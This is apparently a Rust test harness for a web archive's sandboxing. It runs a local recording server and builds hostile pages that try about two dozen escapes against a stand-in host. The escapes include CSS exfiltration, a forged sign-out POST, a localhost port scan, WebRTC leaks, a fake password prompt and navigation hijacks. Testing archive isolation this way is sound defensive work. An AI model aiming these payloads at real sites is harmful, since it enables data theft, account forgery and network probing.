//! Where what an archived page steals would go, and an archive that protects nobody, to see that the page steals at all.
//!
//! One port answers to every name: `archive.localhost` shows the page as it is beside an account of its own; whoever else is
//! asked takes note, on this port, on one where a mere connection counts, and on one for datagrams.

use std::sync::{Arc, Mutex};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream, UdpSocket};

pub struct Lair {
    pub port: u16,
    /// A connection to it is a success by itself. A browser without a screen makes none ahead of time, so that only what
    /// another makes would be seen.
    pub doorbell: u16,
    pub datagrams: u16,
    seen: Arc<Mutex<Vec<String>>>,
    pages: Arc<Mutex<Vec<(String, String)>>>,
}

impl Lair {
    pub async fn opens() -> Lair {
        let listen = async || TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let (listener, bell) = (listen().await, listen().await);
        let socket = UdpSocket::bind("127.0.0.1:0").await.expect("a port");
        let lair = Lair {
            port: listener.local_addr().expect("an address").port(),
            doorbell: bell.local_addr().expect("an address").port(),
            datagrams: socket.local_addr().expect("an address").port(),
            seen: Arc::default(),
            pages: Arc::default(),
        };
        let (seen, pages) = (lair.seen.clone(), lair.pages.clone());
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                tokio::spawn(converse(stream, seen.clone(), pages.clone()));
            }
        });
        let seen = lair.seen.clone();
        tokio::spawn(async move {
            while bell.accept().await.is_ok() {
                seen.lock().unwrap().push("/preconnect".into());
            }
        });
        let seen = lair.seen.clone();
        tokio::spawn(async move {
            while socket.recv_from(&mut [0; 2048]).await.is_ok() {
                seen.lock().unwrap().push("/webrtc".into());
            }
        });
        lair
    }

    /// What `archive.localhost` shows.
    pub fn shows(&self, path: &str, html: &str) {
        self.pages.lock().unwrap().push((path.to_owned(), html.to_owned()));
    }

    /// What reached it since this was asked last, each once: `/path`, and `account: …` for what was done to the account.
    pub fn noted(&self) -> Vec<String> {
        let mut seen = std::mem::take(&mut *self.seen.lock().unwrap());
        seen.sort();
        seen.dedup();
        seen
    }
}

async fn converse(
    mut stream: TcpStream,
    seen: Arc<Mutex<Vec<String>>>,
    pages: Arc<Mutex<Vec<(String, String)>>>,
) {
    let mut bytes = Vec::new();
    while !bytes.windows(4).any(|end| end == b"\r\n\r\n") {
        match stream.read_u8().await {
            Ok(byte) => bytes.push(byte),
            Err(_) => return,
        }
    }
    let head = String::from_utf8_lossy(&bytes).into_owned();
    let mut words = head.split(' ');
    let (method, target) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
    let path = target.split('?').next().unwrap_or_default();
    let lower = head.to_ascii_lowercase();
    let page = pages.lock().unwrap().iter().find(|(known, _)| known == path).map(|(_, html)| html.clone());
    if path == "/noted" {
        let noted = serde_json::json!(*seen.lock().unwrap()).to_string();
        let answer =
            format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{noted}", noted.len());
        let _ = stream.write_all(answer.as_bytes()).await;
        return;
    }
    let signed_in = lower.contains("session=ida");
    let (kind, more, body) = match (lower.contains("host: archive.localhost"), path) {
        (true, "/sw.js") => ("text/javascript", "", String::new()),
        (true, "/desk") if signed_in => ("text/html", "", "Ida’s desk".to_owned()),
        (true, "/sign-out") if method == "POST" && signed_in => {
            seen.lock().unwrap().push("account: signed out".into());
            ("text/html", "Set-Cookie: session=; Max-Age=0\r\n", String::new())
        }
        (true, _) => ("text/html; charset=utf-8", "Set-Cookie: session=ida\r\n", page.unwrap_or_default()),
        (false, _) => {
            if path != "/favicon.ico" {
                seen.lock().unwrap().push(path.to_owned());
            }
            match path {
                "/live.js" => ("text/javascript", "", "win('content_switch')".to_owned()),
                "/import.css" => ("text/css", "", String::new()),
                _ => ("text/html", "", "Mine".to_owned()),
            }
        }
    };
    let answer = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nAccess-Control-Allow-Origin: *\r\n{more}Connection: close\r\n\r\n{body}",
        body.len()
    );
    let _ = stream.write_all(answer.as_bytes()).await;
}

/// How many ways [`attack`] tries by script; each page else tries one.
pub const TRIES: usize = 24;

/// A page that tries whatever an archived page could do to its archive and its reader. `victim` is where an account is, and `leave`
/// the address there that a POST signs out at.
pub fn attack(lair: &Lair, victim: &str, leave: &str) -> String {
    let (port, bell, datagrams) = (lair.port, lair.doorbell, lair.datagrams);
    format!(
        r#"<!doctype html><html lang="en"><head><meta charset="utf-8"><title>A quiet page</title>
<link rel="prefetch" href="http://mine.localhost:{port}/prefetch"><link rel="stylesheet" href="http://mine.localhost:{port}/sheet.css">
<style>@import "http://mine.localhost:{port}/import.css"; input[value^="s"] {{ background: url(http://mine.localhost:{port}/css-exfiltration) }}
@font-face {{ font-family: mine; src: url(http://mine.localhost:{port}/font) }} p {{ font-family: mine }}</style></head>
<body><h1>A quiet page</h1><p>The lamps along the quay are lit by hand, one after another, from the lock to the lighthouse.</p>
<input value="secret"><img src="http://mine.localhost:{port}/img.png" srcset="http://mine.localhost:{port}/img2.png 1x" alt="">
<video poster="http://mine.localhost:{port}/poster" src="http://mine.localhost:{port}/film.mp4" autoplay muted></video>
<iframe src="http://mine.localhost:{port}/frame"></iframe><object data="http://mine.localhost:{port}/object"></object>
<iframe name="sent"></iframe><form action="http://mine.localhost:{port}/form" method="post" target="sent"><input name="q" value="x"></form>
<svg width="9" height="9"><image href="http://mine.localhost:{port}/svg.png" width="9" height="9"/></svg>
<script>
const mine = "http://mine.localhost:{port}", victim = "{victim}";

self.win = (name) => {{ console.info(`won ${{name}}`); new Image().src = `${{mine}}/won/${{name}}`; }};
const add = (name, told) => document.body.append(Object.assign(document.createElement(name), told));
const ended = (thing, ...names) => new Promise((done) => names.forEach((name) => thing.addEventListener(name, done)));
const tries = {{
  content_switch: () => add("script", {{ src: mine + "/live.js" }}),
  request_forgery: () => fetch(victim + "{leave}", {{ method: "POST", credentials: "include", mode: "no-cors" }}),
  // A copy may answer in the place of any port; only who tells an open one from a closed one has scanned.
  port_scan: async () => {{
    const open = (at) => fetch(`http://127.0.0.1:${{at}}/port-scan`, {{ mode: "no-cors" }}).then(() => true, () => false);
    if ((await open({port})) && !(await open({datagrams}))) win("port_scan");
  }},
  same_domain: async () => /Ida/.test(await (await fetch(victim + "/desk", {{ credentials: "include" }})).text()) && win("same_domain"),
  same_domain_frame: () => {{ if (parent !== self && parent.document.body) win("same_domain_frame"); }},
  same_subdomain: () => {{ document.cookie = "tossed=1; path=/"; if (document.cookie.includes("tossed")) win("same_subdomain"); }},
  storage: () => {{ localStorage.setItem("kept", "1"); if (Object.getPrototypeOf(localStorage) === Storage.prototype) win("storage"); }},
  websocket: () => ended(new WebSocket("ws://mine.localhost:{port}/websocket"), "error", "close"),
  service_worker: () => navigator.serviceWorker.register("/sw.js").then(() => win("service_worker")),
  worker: () => ended(new Worker(URL.createObjectURL(new Blob([`fetch("${{mine}}/worker", {{ mode: "no-cors" }}).finally(() => postMessage(1))`]))), "message", "error"),
  beacon: () => navigator.sendBeacon(mine + "/beacon", "x"),
  events: () => ended(new EventSource(mine + "/events"), "error", "message"),
  xhr: () => {{ const asked = new XMLHttpRequest(); asked.open("GET", mine + "/xhr"); asked.send(); return ended(asked, "loadend"); }},
  form_action: () => document.querySelector("form").submit(),
  // A frame may call itself what it likes; its reader reads the window's address.
  history: () => {{ history.pushState({{}}, "", "/desk/taken-over"); if (top.location.pathname === "/desk/taken-over") win("history"); }},
  title: () => {{ document.title = "Taken over"; }},
  popup: () => {{ window.open(mine + "/popup"); }},
  dialog: () => {{ if (window.confirm("Your password?")) win("dialog"); }},
  // It leads the page away where it can: the others go first.
  download: async () => {{ await new Promise((done) => setTimeout(done, 1200)); const a = Object.assign(document.createElement("a"), {{ href: mine + "/download", download: "x" }}); document.body.append(a); a.click(); }},
  // A realm of its own has everything that was taken from this one.
  realm: () => {{ const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.fetch(mine + "/realm", {{ mode: "no-cors" }}); }},
  script_frame: () => add("iframe", {{ srcdoc: `<img src="${{mine}}/srcdoc">` }}),
  frame_leaves: () => {{ const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = mine + "/frame-leaves"; }},
  preconnect: () => add("link", {{ rel: "preconnect", href: "http://mine.localhost:{bell}" }}),
  webrtc: async () => {{
    const realm = document.createElement("iframe"); document.body.append(realm);
    const Peer = self.RTCPeerConnection ?? realm.contentWindow.RTCPeerConnection;
    const peer = new Peer({{ iceServers: [{{ urls: "stun:127.0.0.1:{datagrams}" }}] }});
    peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => setTimeout(done, 800));
  }},
}};
const patience = () => new Promise((done) => setTimeout(done, 1500));
// Told at the console, which is heard from a frame that has left since, too.
const one = async ([name, attempt]) => {{
  console.info(`tried ${{name}}`);
  try {{ await Promise.race([attempt(), patience()]); }} catch (error) {{ /* it did not work */ }}
}};
addEventListener("load", () => Promise.all(Object.entries(tries).map(one)));
</script></body></html>"#
    )
}

/// A page that leaves, with its reader if it can.
pub fn leaving(lair: &Lair) -> String {
    let port = lair.port;
    format!(
        r#"<!doctype html><title>On the way</title><p>The ferry leaves at noon from the lower quay, and nobody waits for it at the lighthouse.</p>
<script>addEventListener("load", () => {{
  console.info("tried leaving");
  try {{ top.location = "http://mine.localhost:{port}/top"; }} catch (error) {{ /* not with its reader */ }}
  if (top !== self) setTimeout(() => {{ location = "http://mine.localhost:{port}/self"; }}, 1000);
}});</script>"#
    )
}

/// A page that leads away by itself.
pub fn refreshing(lair: &Lair) -> String {
    let port = lair.port;
    format!(
        r#"<!doctype html><title>One moment</title><meta http-equiv="refresh" content="0;url=http://mine.localhost:{port}/refresh">
<p>The timetable of the ferry has moved to another page, says the notice on the lower quay, and nobody knows which one.</p>
<script>console.info("tried refreshing")</script>"#
    )
}
